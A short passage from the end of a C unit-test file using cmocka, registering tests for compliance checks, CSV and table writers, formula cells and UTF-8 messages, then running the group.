        cmocka_unit_test(test_case_event_region),
        cmocka_unit_test(test_compliance),
        cmocka_unit_test(test_csv),
        cmocka_unit_test(test_evidence_check),
        cmocka_unit_test(test_table_writers),
        cmocka_unit_test(test_csv_formula_cells),
        cmocka_unit_test(test_csv_messages_utf8),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
